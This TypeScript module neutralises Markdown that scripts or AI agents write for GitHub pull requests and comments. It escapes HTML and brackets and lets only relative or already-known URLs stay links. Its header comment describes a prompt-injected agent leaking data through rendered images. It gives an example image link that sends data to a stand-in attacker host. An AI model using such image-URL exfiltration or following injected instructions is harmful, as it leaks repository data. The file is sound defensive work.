// Text a script or a model wrote, made safe to place in Markdown that GitHub renders (pull request
// bodies, comments, check output). A prompt-injected agent could otherwise send data out through
// an image GitHub fetches on render (`![x](https://attacker/?d=…)`, `<img src=…>`, a reference
// image) or a link a reviewer clicks. The rule:
//
// - No raw HTML and no `<…>` autolink: every `<` outside code is escaped.
// - No reference links or images: every `[` and `]` outside code is escaped, so no definition
//   (`[x]: url`) forms and no `![x][x]` resolves.
// - An inline link or image `[text](dest)` / `![alt](dest)` stays only when its destination is a
//   relative path (GitHub resolves it inside the repository) or an http(s) URL in `keep`: the
//   URLs the repository already holds (for a pull request, in the base version of the files the
//   change touches). Any other stays visible as text, its URL as inert code.
// - A bare URL GitHub would link (`https://…`, `www.…`, `mailto:…`, an e-mail address) becomes
//   inline code unless it is in `keep`.
// - Code (fenced blocks at the start of a line, inline code spans) shows as the writer wrote it.
//
// Everything is re-emitted in a form whose rendering is what this scan decided, not what the text
// might mean to a cleverer parser: escapes for punctuation that could open anything, code spans
// with fences longer than any backtick run inside, on one line, without `|` (a table would split
// a cell inside code). One pass, linear in the text; no regular expression that backtracks.

import { inlineCode, longestRun } from './backtick-runs.ts';

export interface InertOptions {
  /** Absolute URLs that may stay links and images: ones the repository already holds. */
  keep?: ReadonlySet<string>;
  /** The text sits inside a line (a table cell, a list item): no blocks, no fences. */
  inline?: boolean;
  /** The text's first line continues a line already begun: it cannot open a fence. */
  midLine?: boolean;
  /** The result is at most this long: whole lines of the text are kept, never a cut construct. */
  maxChars?: number;
}

const NONE: ReadonlySet<string> = new Set();
/** Longer link text or destinations are not links here: they stay text. */
const MAX_LINK_TEXT = 1_000;
const MAX_DESTINATION = 2_048;

/** `text` as inert Markdown: no image, link or HTML the text made, but for the ones `keep` allows. */
export function inertMarkdown(text: string, options: InertOptions = {}): string {
  const render = (source: string) => (options.inline ? inertInline(source, options.keep ?? NONE) : inertBlocks(source, options.keep ?? NONE, options.midLine ?? false));
  const whole = render(text);
  const max = options.maxChars;
  if (max === undefined || whole.length <= max) return whole;
  // Escapes grow text at most threefold; the source is cut at a line and rendered again until
  // the result fits, so what is kept is whole and fences are closed.
  let room = Math.floor((text.length * max) / whole.length);
  for (;;) {
    const newline = text.lastIndexOf('\n', room);
    const source = newline > room / 2 ? text.slice(0, newline) : safeSlice(text, room);
    const rendered = render(source);
    if (rendered.length <= max || room === 0) return rendered.length <= max ? rendered : '';
    room = Math.min(room - 1, Math.floor((source.length * max) / rendered.length));
  }
}

/** The http(s) URLs in `text` (file contents, a diff): what `keep` holds for a pull request. */
export function urlsIn(text: string, into: Set<string> = new Set()): Set<string> {
  for (let at = text.indexOf('://'); at !== -1; at = text.indexOf('://', at + 3)) {
    let start = at;
    while (start > 0 && /[A-Za-z]/.test(text[start - 1]) && at - start < 5) start--;
    const scheme = text.slice(start, at).toLowerCase();
    if (scheme !== 'http' && scheme !== 'https') continue;
    let end = at + 3;
    while (end < text.length && isUrlChar(text[end])) end++;
    const url = trimUrl(text.slice(start, end));
    if (url.length > scheme.length + 3) into.add(url);
  }
  return into;
}

// ---- blocks -----------------------------------------------------------------------------------

function inertBlocks(text: string, keep: ReadonlySet<string>, midLine: boolean): string {
  const lines = text.replace(/\r\n?/g, '\n').split('\n');
  const out: string[] = [];
  let prose: string[] = [];
  const flush = () => {
    if (prose.length > 0) out.push(inertInline(prose.join('\n'), keep));
    prose = [];
  };
  let fence: { char: string; length: number } | null = null;
  for (const [index, line] of lines.entries()) {
    if (fence) {
      out.push(line);
      if (closesFence(line, fence)) fence = null;
      continue;
    }
    // Only a fence at the very start of a line is code for sure: an indented one may sit in a
    // list item that ends it early. Anything not taken for code is made inert, which is safe.
    const opened = index === 0 && midLine ? null : openingFence(line);
    if (opened) {
      flush();
      out.push(line);
      fence = opened;
    } else {
      prose.push(line);
    }
  }
  flush();
  // A fence left open would turn whatever follows this text (Foreman's own report) into code.
  if (fence) out.push(fence.char.repeat(fence.length));
  return out.join('\n');
}

function openingFence(line: string): { char: string; length: number } | null {
  const char = line[0];
  if (char !== '`' && char !== '~') return null;
  let length = 0;
  while (line[length] === char) length++;
  if (length < 3) return null;
  // A backtick fence's info string cannot hold a backtick: then it is inline code, not a fence.
  if (char === '`' && line.includes('`', length)) return null;
  return { char, length };
}

function closesFence(line: string, fence: { char: string; length: number }): boolean {
  let i = 0;
  while (i < 3 && line[i] === ' ') i++;
  let length = 0;
  while (line[i + length] === fence.char) length++;
  return length >= fence.length && line.slice(i + length).trim() === '';
}

// ---- inline -----------------------------------------------------------------------------------

const ASCII_PUNCTUATION = /[!-/:-@[-`{-~]/;
/** Outside code, these could open a link, an image, HTML, an autolink, code or an entity. */
const ESCAPED = new Set(['[', ']', '<', '&', '`', '\\']);
/** Words that are task-list boxes (`- [x] done`); alone, no bracket of theirs can make a link. */
const BOXES = new Set(['[', ']', '[x]', '[X]']);

function inertInline(text: string, keep: ReadonlySet<string>): string {
  const closers = backtickRuns(text);
  let out = '';
  let plain = '';
  const flushPlain = () => {
    out += inertPlain(plain, keep);
    plain = '';
  };
  let i = 0;
  while (i < text.length) {
    const char = text[i];
    if (char === '\\' && i + 1 < text.length && ASCII_PUNCTUATION.test(text[i + 1])) {
      // Already an escape: a literal character, kept as the writer escaped it (escapeText).
      plain += text.slice(i, i + 2);
      i += 2;
      continue;
    }
    if (char === '`') {
      let length = 0;
      while (text[i + length] === '`') length++;
      const close = closers.next(length, i + length);
      const content = close === -1 ? '' : text.slice(i + length, close);
      if (close !== -1 && !content.includes('|')) {
        flushPlain();
        out += inlineCode(content.replace(/\n/g, ' '));
        i = close + length;
      } else {
        plain += '`'.repeat(length);
        i += length;
      }
      continue;
    }
    if (char === '[' || (char === '!' && text[i + 1] === '[')) {
      const link = keptLink(text, i, keep);
      if (link) {
        flushPlain();
        out += link.markdown;
        i = link.end;
        continue;
      }
    }
    plain += char;
    i++;
  }
  flushPlain();
  return out;
}

/** For each backtick run length, the runs in order: the closer of a run is the next of its length. */
function backtickRuns(text: string): { next(length: number, from: number): number } {
  const runs = new Map<number, number[]>();
  for (let i = 0; i < text.length; ) {
    if (text[i] === '\\' && i + 1 < text.length && ASCII_PUNCTUATION.test(text[i + 1])) {
      i += 2;
      continue;
    }
    if (text[i] !== '`') {
      i++;
      continue;
    }
    let length = 0;
    while (text[i + length] === '`') length++;
    if (!runs.has(length)) runs.set(length, []);
    runs.get(length)!.push(i);
    i += length;
  }
  const cursor = new Map<number, number>();
  return {
    next(length, from) {
      const list = runs.get(length);
      if (!list) return -1;
      let at = cursor.get(length) ?? 0;
      while (at < list.length && list[at] < from) at++;
      cursor.set(length, at);
      return at < list.length ? list[at] : -1;
    },
  };
}

/** Inline code whose fence no backtick run inside can close, on one line. */

/**
 * `[text](dest)` or `![alt](dest)` at `at` in its simplest form (no nested brackets, code or
 * title), re-emitted, when dest may stay; null otherwise (the caller escapes it as text). Each
 * try stops at the next bracket, so all tries together read the text once.
 */
function keptLink(text: string, at: number, keep: ReadonlySet<string>): { markdown: string; end: number } | null {
  const image = text[at] === '!';
  const open = image ? at + 1 : at;
  let close = open + 1;
  while (close < text.length && close - open <= MAX_LINK_TEXT && !'[]`\\<\n'.includes(text[close])) close++;
  if (text[close] !== ']' || text[close + 1] !== '(') return null;
  const start = close + 2;
  let end = start;
  while (end < text.length && end - start <= MAX_DESTINATION && !/[\s()<>[\]`\\"']/.test(text[end])) end++;
  if (text[end] !== ')' || end === start) return null;
  const destination = text.slice(start, end);
  if (!isRelative(destination) && !(keep.has(destination) && isPlainUrl(destination))) return null;
  const label = inertPlain(text.slice(open + 1, close), NONE);
  return { markdown: `${image ? '!' : ''}[${label}](${destination})`, end: end + 1 };
}

/** A path GitHub resolves inside the repository: no scheme, not `//host`, no entity or escape. */
function isRelative(destination: string): boolean {
  return /^[A-Za-z0-9._~/#?=%+,-]+$/.test(destination) && !destination.startsWith('//') && !/^[A-Za-z][A-Za-z0-9+.-]*:/.test(destination);
}

/** An http(s) URL that means what it says in a link: no entity, escape or space in it. */
function isPlainUrl(url: string): boolean {
  return /^https?:\/\/[^\s<>`\\"'()[\]]+$/i.test(url) && !/&[A-Za-z0-9#]+;/.test(url);
}

/** Text outside code and kept links: URLs GitHub would link become code, punctuation is escaped. */
function inertPlain(text: string, keep: ReadonlySet<string>): string {
  // Words and the whitespace between them, alternately.
  return text
    .split(/(\s+)/)
    .map((part, index) => (index % 2 === 1 ? part : inertWord(part, keep)))
    .join('');
}

function inertWord(word: string, keep: ReadonlySet<string>): string {
  if (word === '') return '';
  if (BOXES.has(word)) return word;
  const start = linkStart(word);
  if (start === -1) return escapeText(word);
  // From the first place GitHub could start a link to the end of the word, less the punctuation
  // that ends a sentence: all of it is code, or (when kept) an autolink.
  let end = word.length;
  while (end > start && /[.,:;!?*_~'")\]}>]/.test(word[end - 1])) end--;
  const url = word.slice(start, end);
  const shown = keep.has(url) && isPlainUrl(url) ? `<${url}>` : inlineCode(url);
  return escapeText(word.slice(0, start)) + shown + escapeText(word.slice(end));
}

/** Where in a word GitHub could begin a link: a scheme, `www.`, or an e-mail address; -1 for none. */
function linkStart(word: string): number {
  const lower = word.replace(/[A-Z]+/g, (letters) => letters.toLowerCase());
  let start = -1;
  const take = (at: number) => {
    if (at !== -1 && (start === -1 || at < start)) start = at;
  };
  // `scheme://` of any scheme, and the two GitHub links without slashes.
  for (const [marker, back] of [['://', true], ['mailto:', false], ['xmpp:', false]] as const) {
    const found = lower.indexOf(marker);
    if (found === -1) continue;
    let s = found;
    while (back && s > 0 && /[a-z0-9+.-]/.test(lower[s - 1])) s--;
    take(s);
  }
  take(lower.indexOf('www.'));
  const at = lower.indexOf('@');
  if (at > 0 && lower.indexOf('.', at) !== -1) {
    let s = at;
    while (s > 0 && /[a-z0-9._+-]/.test(lower[s - 1])) s--;
    if (s < at) take(s);
  }
  // An escape inside a link (`https\://`) reads differently to different parsers: all of it is code.
  if (start === -1 && word.includes('\\') && /[:@]|www/i.test(word)) return 0;
  return start;
}

/** Punctuation that could open something, escaped; the writer's own escapes are kept. */
function escapeText(text: string): string {
  let out = '';
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (char === '\\' && i + 1 < text.length && ASCII_PUNCTUATION.test(text[i + 1])) {
      out += text.slice(i, i + 2);
      i++;
    } else {
      out += ESCAPED.has(char) ? `\\${char}` : char;
    }
  }
  return out;
}

function isUrlChar(char: string): boolean {
  return !/[\s<>"'`\\]/.test(char);
}

function trimUrl(url: string): string {
  let end = url.length;
  while (end > 0 && /[.,:;!?*_~'")\]}>]/.test(url[end - 1])) end--;
  return url.slice(0, end);
}

function safeSlice(text: string, end: number): string {
  const code = text.charCodeAt(end);
  return code >= 0xdc00 && code <= 0xdfff ? text.slice(0, end - 1) : text.slice(0, end);
}
